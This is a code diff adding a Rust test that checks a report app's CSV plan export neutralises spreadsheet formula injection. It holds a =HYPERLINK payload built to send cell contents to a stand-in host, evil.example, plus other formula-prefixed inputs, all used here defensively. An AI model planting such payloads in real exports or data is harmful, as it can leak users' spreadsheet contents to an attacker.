@@ -985,3 +985,63 @@ both!(
         assert!(row.contains("Parempi"), "{row}");
     }
 );
+
+both!(
+    plan_downloads_never_carry_formulas,
+    |app: TestApp| async move {
+        let (token, id, _, _) = setup(&app).await;
+        let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
+        let g = ok_json(
+            api(
+                &app,
+                &token,
+                Method::POST,
+                &format!("/api/v1/reports/{id}/plan/goals"),
+                Some(json!({"title": evil})),
+            )
+            .await,
+            StatusCode::CREATED,
+        )
+        .await["id"]
+            .as_i64()
+            .unwrap();
+        ok_json(
+            api(
+                &app,
+                &token,
+                Method::POST,
+                &format!("/api/v1/reports/{id}/plan/goals/{g}/actions"),
+                Some(
+                    json!({"title": "@SUM(1,2)", "sector": "education", "responsible": "-1+1",
+                            "start_year": 2026, "end_year": 2026,
+                            "resources": [{"year": 2026, "euros": 1500, "person_years": 0.5}]}),
+                ),
+            )
+            .await,
+            StatusCode::CREATED,
+        )
+        .await;
+        let (_, client) = app.signed_in(ASIKKALA, Role::Reader).await;
+        let res = app
+            .get_with(&client, &format!("/reports/{id}/plan/table.csv"))
+            .await;
+        assert_eq!(res.status(), StatusCode::OK);
+        let bytes = res.bytes().await.unwrap();
+        let text = std::str::from_utf8(&bytes[3..]).unwrap();
+        let mut rdr = csv::Reader::from_reader(text.as_bytes());
+        let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
+        assert_eq!(rows.len(), 1);
+        let row = &rows[0];
+        // Text that a spreadsheet would run starts with an apostrophe; the text is
+        // otherwise as written, and numbers stay numbers.
+        assert_eq!(&row[0], &format!("'{evil}"));
+        assert_eq!(&row[2], "'@SUM(1,2)");
+        assert!(row.iter().any(|c| c == "'-1+1"), "{row:?}");
+        assert!(row.iter().any(|c| c == "1500"), "{row:?}");
+        assert!(
+            row.iter()
+                .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+            "{row:?}"
+        );
+    }
+);
